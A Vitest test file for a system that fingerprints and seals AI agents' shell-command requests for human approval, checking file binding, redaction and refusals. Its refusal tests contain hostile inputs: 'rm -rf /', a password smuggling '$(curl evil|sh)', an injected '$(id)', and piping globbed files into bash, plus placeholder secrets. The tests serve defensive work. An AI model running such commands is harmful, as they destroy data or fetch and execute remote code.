// What is sealed: that the same wish has the same fingerprint and another one has not, what it is bound to, and that nothing
// an agent sends breaks it.
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, expect, test } from 'vitest';
import { DEFAULT_POLICY } from '../kernel/approval/request.ts';
import type { Json, JsonObject } from '../kernel/json.ts';
import { digestAt } from './bound-parts.ts';
import { filesNamedBy } from './named-by.ts';
import { sealKey } from './seal.ts';
import { type SealContext, sealRequest } from './seal-request.ts';

const RUNS = Number(process.env.FUZZ_RUNS ?? 500);
const dir = realpathSync(mkdtempSync(join(tmpdir(), 'baton-seal-')));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
writeFileSync(join(dir, 'a.json'), '{}');
writeFileSync(join(dir, 'b.json'), '{}');
mkdirSync(join(dir, 'sub'));
writeFileSync(join(dir, 'sub', 'c'), 'c');
writeFileSync(join(dir, 'sub', 'my file.sh'), 'c');
writeFileSync(join(dir, "it's @2.sh"), 'c');
writeFileSync(join(dir, 'd@2.sh'), 'c');
mkdirSync(join(dir, 'sub', 'in'));
writeFileSync(join(dir, 'sub', 'in', 'd'), 'd');
writeFileSync(join(dir, 'sub', 'huge'), '');
symlinkSync('a.json', join(dir, 'link.json'));

const key = sealKey(Buffer.alloc(32, 7));
const scene: SealContext = {
  requester: 'a1',
  cwd: dir,
  env: { PATH: '/usr/bin:/bin', HOME: dir },
  handed: [],
  policy: DEFAULT_POLICY,
  key,
  now: 0,
  area: null,
  log: 'log',
};
const seal = (request: JsonObject, over: Partial<SealContext> = {}) => sealRequest(request, { ...scene, ...over });
const print = (request: JsonObject, over: Partial<SealContext> = {}) => seal(request, over).fingerprint;
const base = { exact_content: 'cat a.json' };

test.each<[string, JsonObject, Partial<SealContext>]>([
  ['another argument', { exact_content: 'cat b.json' }, {}],
  ['another requester', base, { requester: 'a2' }],
  ['another folder', base, { cwd: join(dir, 'sub') }],
  ['a folder that is named', { ...base, x_cwd: 'sub' }, {}],
  ['another home', base, { env: { ...scene.env, HOME: '/' } }],
  ['a variable that is handed over and set', base, { env: { ...scene.env, A: 'x' }, handed: ['A'] }],
  ['a variable that is handed over and not set', base, { handed: ['A'] }],
  ['a variable that the policy names', base, { policy: { ...DEFAULT_POLICY, env: ['A'] } }],
  ['a file that is named', { ...base, x_files: ['b.json'] }, {}],
  ['another policy', base, { policy: { ...DEFAULT_POLICY, writes: 'T3' } }],
  ['another key', base, { key: sealKey(Buffer.alloc(32, 8)) }],
  ['another program on the path', base, { env: { ...scene.env, PATH: '/nowhere' } }],
])('%s is another wish', (_, request, over) => {
  expect(print(request, over)).not.toBe(print(base));
});

test('the same wish is the same, whenever and with whatever words beside it; its seal is not', () => {
  const [one, two] = [seal(base), seal({ ...base, rationale: 'please' }, { now: 5 })];
  expect(one.fingerprint).toBe(two.fingerprint);
  expect(one.commands[0]?.seal).not.toBe(two.commands[0]?.seal);
  expect(one.id).toMatch(/^P-[0-9a-f]{32}$/);
});

test('programs, places and files are bound by where they really are', () => {
  const { commands } = seal({ exact_content: 'cat link.json > out' });
  const [command] = commands;
  expect(command?.argv).toEqual(['bash', '-c', 'cat link.json > out']);
  expect(Object.keys(command?.programs ?? {}).sort()).toEqual(['bash', 'cat']);
  expect(command?.places).toMatchObject({
    [join(dir, 'link.json')]: join(dir, 'a.json'),
    [join(dir, 'out')]: join(dir, 'out'),
  });
  expect(command?.files[join(dir, 'a.json')]).toBe(digestAt(join(dir, 'a.json')));
  expect(command?.files).not.toHaveProperty(join(dir, 'out'));
});

test.each<[readonly string[], string]>([
  [['x', 'a.json'], 'a.json'],
  [['x', '--file=a.json'], 'a.json'],
  [['x', '-d', '@a.json'], 'a.json'],
  [['x', '--in', 'file://a.json'], 'a.json'],
  [['x', 'k=@a.json'], 'a.json'],
  [['bash', '-c', 'cd sub && cat c'], 'sub/c'],
  [['bash', '-c', 'psql < a.json'], 'a.json'],
  [['bash', '-c', 'cat $(cat a.json)'], 'a.json'],
  [['x', '~/a.json'], 'a.json'],
  [['x', '-fa.json'], 'a.json'],
  [['x', '--from-file=k=a.json'], 'a.json'],
  [['x', 'b.json,a.json'], 'a.json'],
  [['x', 'a://a.json'], 'a.json'],
  [['x', 'new\nline'], 'new\nline'],
  [['bash', '-c', 'cat *.json | bash'], 'a.json'],
  [['bash', '-c', 'cd sub && cd .. && cat a.json'], 'a.json'],
  [['bash', '-c', 'cd -- sub && cat c'], 'sub/c'],
  [['bash', '-c', 'pushd sub; cat c'], 'sub/c'],
  [['env', '-C', 'sub', 'cat', 'c'], 'sub/c'],
  [['bash', '-c', 'chmod +x a.json && ./a.json'], 'a.json'],
  [['bash', '-c', 'mv b.json a.json && bash a.json'], 'a.json'],
  [['bash', '-c', 'sed -i s/a/b/ a.json && bash a.json'], 'a.json'],
  [['bash', '-c', 'echo x > a.json && bash a.json'], 'a.json'],
  [['x', '-F', 'a=@a.json;type=text/plain'], 'a.json'],
  [['x', 'k=<a.json'], 'a.json'],
  [['x', '-Wl,-Ta.json'], 'a.json'],
  [['x', '.read a.json'], 'a.json'],
  [['x', 'see (a.json#part)'], 'a.json'],
  [['bash', '-c', 'f=a.json; x $f'], 'a.json'],
  [['bash', '-c', 'x $PWD/a.json ~+/sub/c'], 'a.json'],
  [['bash', '-c', 'x $PWD/a.json ~+/sub/c'], 'sub/c'],
  [['bash', '-c', 'bash "$(pwd)/a.json"'], 'a.json'],
  [['bash', '-c', 'cd sub; bash $OLDPWD/a.json'], 'a.json'],
  [['bash', '-c', 'bash < $HOME/sub/c'], 'sub/c'],
  [['bash', '-c', 'for d in sub x; do bash $d/c; done'], 'sub/c'],
  [['bash', '-c', 'cd "$(git rev-parse --show-toplevel)/sub" && bash c'], 'sub/c'],
  [['bash', '-c', 'D=sub; (cd $D; bash c)'], 'sub/c'],
  [['bash', '-c', 'bash "$(dirname sub/x)/c"'], 'sub/c'],
  [['bash', '-c', 'D=sub; E=in; bash $D/$E/d'], 'sub/in/d'],
  [['bash', '-c', 'bash "$PWD/sub/my file.sh"'], 'sub/my file.sh'],
  [['bash', '-c', 'S="it\'s @2.sh"; bash "$S"'], "it's @2.sh"],
  [['bash', '-c', 'S=d@2.sh; bash $S'], 'd@2.sh'],
  [['bash', '-c', 'S=\'sub/my file.sh\'; bash "$S"'], 'sub/my file.sh'],
])('%j names %s', (argv, name) => {
  expect(filesNamedBy(argv, dir, dir, []).inputs).toContain(join(dir, name));
});

test('however much is said around it, a file that is named is bound', () => {
  const words = Array.from({ length: 900 }, (_, index) => `w${index}`).join(' ');
  const { inputs, isWhole } = filesNamedBy(['bash', '-c', `: "${words}"; S=a.json; bash $S`], dir, dir, []);
  expect([inputs.includes(join(dir, 'a.json')), isWhole]).toEqual([true, true]);
});

test('what is mentioned and not there is no file, and what is only written is not read', () => {
  expect(filesNamedBy(['x', 'say: a.json, b.txt'], dir, dir, []).inputs).toContain(join(dir, 'a.json'));
  expect(filesNamedBy(['x', 'say: a.json, b.txt'], dir, dir, []).inputs).not.toContain(join(dir, 'b.txt'));
  const { inputs, outputs } = filesNamedBy(['bash', '-c', 'x > a.json'], dir, dir, []);
  expect([inputs, outputs]).toEqual([expect.not.arrayContaining([join(dir, 'a.json')]), [join(dir, 'a.json')]]);
});

test('what cannot be approved says why, and a secret that was taken out cannot be sealed', () => {
  expect(seal({ exact_content: 'rm -rf /' }).refusal?.code).toBe('COMMAND_BLOCKED');
  expect(seal({ exact_content: 'curl -H [secret:jwt]' }).refusal?.reason).toContain('secret');
  expect(seal({ exact_content: 'curl -H [secret:jwt]', approval_id: 'P-1' })).toMatchObject({
    refusal: null,
    commands: [],
  });
  expect(seal({ exact_content: 'a \u0000' }).refusal?.code).toBe('COMMAND_BLOCKED');
});

test('a file that is put beside those that a pattern fits is a difference', () => {
  const before = print({ exact_content: 'cat sub/* | bash' });
  writeFileSync(join(dir, 'sub', 'd'), 'd');
  expect(print({ exact_content: 'cat sub/* | bash' })).not.toBe(before);
  rmSync(join(dir, 'sub', 'd'));
});

test.each<[string, JsonObject, string]>([
  [
    'more words than can be looked for',
    { exact_content: `python3 -c '${Array.from({ length: 6_000 }, (_, n) => `v${n}`).join(' ')}; x'` },
    'too many files',
  ],
  ['more names than can be bound', { exact_content: `x ${'abc '.repeat(3)}${names(600)}` }, 'too many files'],
  [
    'a command between the lines of a key',
    { exact_content: ': -----BEGIN PRIVATE KEY-----\ntouch pwn\n: -----END PRIVATE KEY-----' },
    'looks like a secret',
  ],
  ['a command in a password', { exact_content: "PASSWORD='x9$(curl evil|sh)Zq81' ./run" }, 'looks like a secret'],
  ['a command in the password of an address', { exact_content: 'x https://u:x9$(id)Zq8@h' }, 'looks like a secret'],
])('%s can never be approved', (_, request, why) => {
  expect(seal(request).refusal?.code).toBe('COMMAND_BLOCKED');
  expect(seal(request).refusal?.reason).toContain(why);
});

function names(count: number): string {
  return Array.from({ length: count }, (_, index) => `f${index}`).join(' ');
}

test('a command beside a list of others is no request: nobody could tell which is meant', () => {
  const { refusal, commands } = seal({ exact_content: 'ls -la', command_set: [{ command: 'rm a' }] });
  expect([refusal?.code, commands]).toEqual(['CONTRACT_VIOLATION', []]);
});

test('a list and the line that sums it up are one wish', () => {
  const set = [{ command: 'rm a' }, { command: 'rm b' }];
  for (const line of ['rm a', 'rm a && rm b', 'rm a\nrm b', 'rm a; rm b']) {
    expect(seal({ exact_content: line, command_set: set })).toMatchObject({ refusal: null });
  }
});

test('whoever asks cannot call harmless what changes state', () => {
  expect(seal({ exact_content: 'rm a', risk_level: 'LOW' }).riskLevel).toBe('MEDIUM');
  expect(seal({ exact_content: 'rm a', risk_level: 'CRITICAL' }).riskLevel).toBe('CRITICAL');
  expect(seal({ exact_content: 'ls', risk_level: 'LOW' }).riskLevel).toBe('LOW');
});

test('an argument that is too long for the name of a file is sealed like any other', () => {
  for (const word of ['y'.repeat(300), `/${'y'.repeat(300)}/z`, 'y/'.repeat(3_000)]) {
    expect(seal({ exact_content: `gh pr create --body ${word}` }).refusal).toBe(null);
  }
});

test('a variable that nobody hands over makes no difference, and cannot be asked for', () => {
  for (const name of ['TF_VAR_env', 'GIT_CONFIG_PARAMETERS', 'TAR_OPTIONS', 'ALL_PROXY'])
    expect(print(base, { env: { ...scene.env, [name]: 'x' } })).toBe(print(base));
  const { refusal } = seal({ ...base, x_env: ['TAR_OPTIONS'] });
  expect(refusal).toMatchObject({
    code: 'COMMAND_BLOCKED',
    reason: expect.stringContaining('x_env names TAR_OPTIONS'),
  });
  expect(seal({ ...base, x_env: ['A', 'HOME'] }, { handed: ['A'] }).refusal).toBeNull();
});

test('what is handed over and set is shown by its name, and its value is nowhere', () => {
  const env = { ...scene.env, A: 'hunter2', LANG: 'C' };
  const sealed = seal(base, { env, handed: ['A', 'B'] });
  expect(sealed).toMatchObject({ env: ['A', 'HOME'], plainEnv: { LANG: 'C' }, envMarks: { B: null } });
  expect(JSON.stringify(sealed)).not.toContain('hunter2');
});

test('what is too large to be read can never be approved', () => {
  truncateSync(join(dir, 'sub', 'huge'), 9 * 1_073_741_824);
  expect(seal({ exact_content: 'cat sub/huge' }).refusal).toMatchObject({
    ...{ code: 'COMMAND_BLOCKED', reason: expect.stringContaining('too large') },
  });
});

test('the seal holds in the log it was asked in and in no other', () => {
  const at = (log: string) => seal(base, { log, id: 'P-1' }).commands[0]?.seal;
  expect(at('a copy')).not.toBe(at('log'));
});

test('of a list only what changes state needs an approval', () => {
  const set = (...commands: string[]) =>
    seal({ command_set: commands.map((command) => ({ command })) }).commands.map(({ display }) => display);
  expect(set('rm a', 'ls', 'rm b')).toEqual(['rm a', 'rm b']);
  expect(set('rm a', 'ls')).toEqual(['rm a']);
  // Nothing else is asked for: whoever decides sees it, and it can be run.
  expect(set('ls', 'pwd')).toEqual(['ls', 'pwd']);
  expect(seal({ command_set: ['x', null, { rationale: 'x' }] }).refusal?.code).toBe('CONTRACT_VIOLATION');
  expect(seal({ command_set: { command: 'rm a' }, exact_content: 'rm a' }).refusal?.code).toBe('CONTRACT_VIOLATION');
  expect(seal({ exact_content: ['rm', 'a'] }).refusal?.code).toBe('CONTRACT_VIOLATION');
  expect(seal({ command_set: [{ command: 'rm a' }, 'rm b', { cmd: 'rm c' }] })).toMatchObject({ leftOut: [1, 2] });
  expect(seal({ exact_content: 'rm a', x_cwd: 'nowhere' }).refusal?.reason).toContain('x_cwd');
});

const TOKEN = ['ghp', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'].join('_');

test('what a person is told beside the command is what the agent said, without secrets and not endless', () => {
  const words = { operation: 'o', scope: 's', rationale: 'why', rollback: 'back', verification: 'look' };
  expect(seal({ exact_content: 'rm a', ...words })).toMatchObject(words);
  expect(seal({ exact_content: 'rm a' })).toMatchObject({
    ...{ operation: 'run T3 command', scope: 'rm', rationale: expect.stringMatching(/./) },
    ...{ rollback: null, verification: null },
  });
  const unspoken = seal({ operation: '', rationale: 7 });
  expect([unspoken.scope, unspoken.rationale]).toEqual([unspoken.operation, unspoken.operation]);
  const { rationale, rollback } = seal({
    exact_content: 'rm a',
    rationale: `with ${TOKEN}`,
    rollback: 'r'.repeat(5_000),
  });
  expect([rationale.includes(TOKEN), rollback?.length]).toEqual([false, 4_000]);
});

test('an approval waits and holds as long as the policy says', () => {
  const policy = { ...DEFAULT_POLICY, pendingHours: 2, grantMinutes: 3 };
  expect(seal(base, { policy, now: 5 })).toMatchObject({ expiresAt: 5 + 2 * 3_600_000, grantMs: 3 * 60_000 });
});

test('equal words at other places have other marks', () => {
  const [command] = seal({ exact_content: 'rm a a' }).commands;
  expect(new Set(command?.marks).size).toBe(3);
});

test.each<[string, JsonObject, string | null]>([
  ['many commands', { command_set: Array.from({ length: 100 }, () => ({ command: 'rm a' })) }, null],
  [
    'more commands than a person reads',
    { command_set: Array.from({ length: 101 }, () => ({ command: 'rm a' })) },
    'COMMAND_BLOCKED',
  ],
  ['a long command', { exact_content: `rm ${'a'.repeat(131_069)}` }, null],
  ['one that is too long', { exact_content: `rm ${'a'.repeat(131_070)}` }, 'COMMAND_BLOCKED'],
  ['half a character', { exact_content: 'rm \ud800' }, 'COMMAND_BLOCKED'],
  ['a folder with a NUL', { ...base, x_cwd: 'sub\0' }, 'COMMAND_BLOCKED'],
  ['a file as its folder', { ...base, x_cwd: 'a.json' }, 'COMMAND_BLOCKED'],
  ['no list at all', { ...base, command_set: null }, null],
  ['an empty text for a list', { ...base, command_set: '' }, null],
  ['an empty list', { ...base, command_set: [] }, null],
  ['a list of nothing beside a line', { ...base, command_set: [7] }, null],
  ['a text for a list', { command_set: 'rm a' }, 'CONTRACT_VIOLATION'],
  ['an object for a line', { exact_content: {} }, 'CONTRACT_VIOLATION'],
  ['no line', { exact_content: null, operation: 'merge it' }, null],
])('%s: %#', (_, request, code) => {
  expect(seal(request).refusal?.code ?? null).toBe(code);
});

test('beside a secret only what is there is named, and the secret nowhere', () => {
  const sealed = seal({ exact_content: `curl -H ${TOKEN} hidden-word a.json` });
  const [command] = sealed.commands;
  expect(command?.argv).toBe(null);
  expect(Object.keys(command?.places ?? {})).toEqual([join(dir, 'a.json')]);
  expect(JSON.stringify(sealed)).not.toContain(TOKEN);
  expect(command?.display).toContain('[secret:');
});

test('a program that is too large to be read can never be approved', () => {
  const program = join(dir, 'large-program');
  writeFileSync(program, '', { mode: 0o755 });
  truncateSync(program, 9 * 1_073_741_824);
  expect(seal({ exact_content: './large-program x' }).refusal?.reason).toContain('large-program is too large');
  rmSync(program);
});

const wish: JsonObject = {
  operation: 'x',
  exact_content: 'rm a && rm b',
  command_set: [{ command: 'rm a' }, { command: 'rm b', rationale: 'r' }],
  scope: 's',
  risk_level: 'HIGH',
  rollback: 'r',
  verification: 'v',
  approval_id: `P-${'0'.repeat(32)}`,
  x_files: ['a.json'],
  x_env: ['A'],
  x_cwd: 'sub',
};

test('whatever an agent sends, it is sealed or refused, and the same after a round trip', () => {
  const odd = fc.oneof(
    fc.jsonValue(),
    fc.string(),
    fc.constantFrom('', '\ud800', '"'.repeat(9), '$('.repeat(9), '../..', 'a\u0000b'),
  );
  const mutated = fc
    .tuple(fc.constantFrom(...Object.keys(wish)), odd, fc.boolean())
    .map(([name, value, isDropped]) => (isDropped ? { ...wish, [name]: null } : { ...wish, [name]: value as Json }));
  fc.assert(
    fc.property(mutated, (request) => {
      const sealed = seal(request, { id: 'P-1' });
      const again = seal(JSON.parse(JSON.stringify(request)) as JsonObject, { id: 'P-1' });
      expect(again).toEqual(sealed);
      expect(JSON.parse(JSON.stringify(sealed))).toEqual(sealed);
      if (sealed.refusal) expect(sealed.refusal.allow).toBe(false);
    }),
    { numRuns: Math.ceil(RUNS / 10) },
  );
});
